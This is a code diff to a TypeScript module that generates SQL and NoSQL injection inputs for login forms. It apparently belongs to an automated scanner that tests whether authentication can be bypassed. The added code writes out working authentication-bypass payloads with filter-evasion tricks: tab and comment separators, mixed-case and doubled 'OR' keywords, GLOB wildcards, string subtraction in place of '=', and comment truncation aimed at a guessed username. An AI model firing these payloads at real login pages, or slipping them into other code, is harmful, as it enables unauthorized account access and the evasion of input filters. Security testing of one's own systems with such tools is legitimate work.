@@ -43,8 +43,8 @@ export function sqlChanges(login: Login): LoginChange[] {
       ? []
       : evaluated(
           login,
-          'the rest of the statement turned into a comment behind the name "admin"',
-          { name: `admin${quote}-- -` },
+          `the rest of the statement turned into a comment behind the name "${login.likelyName}"`,
+          { name: `${login.likelyName}${quote}-- -` },
           { name: `‹nonce›${quote}-- -` },
         );
   const conditions = quotes.flatMap((quote) =>
@@ -62,7 +62,42 @@ export function sqlChanges(login: Login): LoginChange[] {
       ...conditionIn(login, field, (value, isTrue) => `${value}${quote}||${compare(isTrue)}#`),
     ]),
   );
-  return [...conditions.slice(0, 1), ...known("'"), ...conditions.slice(1), ...known('"')];
+  return [...conditions.slice(0, 1), ...known("'"), ...conditions.slice(1), ...known('"'), ...filteredChanges(login)];
+}
+
+/**
+ * The same without what filters look for: spaces, "or", signs of comments, "=". Two fields compare with what fits any text (SQLite),
+ * or with a difference of texts, which is 0 as they are (MySQL).
+ */
+function filteredChanges(login: Login): LoginChange[] {
+  const { name, password } = nobody(login);
+  const inBoth = (what: string, whenTrue: string, whenFalse: string): LoginChange[] =>
+    evaluated(
+      login,
+      what,
+      { name: name + whenTrue, password: password + whenTrue },
+      { name: name + whenFalse, password: password + whenFalse },
+    );
+  const inName = (write: (compared: string) => string): LoginChange[] =>
+    conditionIn(login, 'name', (value, isTrue) => value + write(isTrue ? '‹int›<‹int›1' : '‹int›1<‹int›'));
+  const cut = (sign: string): LoginChange[] =>
+    login.isMail && !login.likelyName.includes('@')
+      ? []
+      : evaluated(
+          login,
+          `the rest of the statement cut off behind the name "${login.likelyName}"`,
+          { name: `${login.likelyName}'${sign}` },
+          { name: `‹nonce›'${sign}` },
+        );
+  return [
+    ...inBoth('a pattern that fits anything behind both values', "'GLOB'*", "'GLOB'q‹int›"),
+    ...inBoth('a number that texts are equal to in both values', "'-'0", "'-'1"),
+    ...inName((compared) => `'\toR\t${compared}\tLIMIT\t1--\t-`),
+    ...inName((compared) => `'/**/oR/**/${compared}/**/LIMIT/**/1#`),
+    ...inName((compared) => `' OORR ${compared} LIMIT 1-- -`),
+    ...cut('#'),
+    ...cut('/*'),
+  ];
 }
 
 /** Operators of document databases, and conditions in JavaScript. */
@@ -76,9 +111,9 @@ export function nosqlChanges(login: Login): LoginChange[] {
     ),
     ...evaluated(
       login,
-      `the name "admin" and ${what} as the password`,
-      { name: 'admin', password: whenTrue },
-      { name: 'admin', password: whenFalse },
+      `the name "${login.likelyName}" and ${what} as the password`,
+      { name: login.likelyName, password: whenTrue },
+      { name: login.likelyName, password: whenFalse },
     ),
   ];
   const member = (name: string, value: string): Credential => ({ member: name, value });
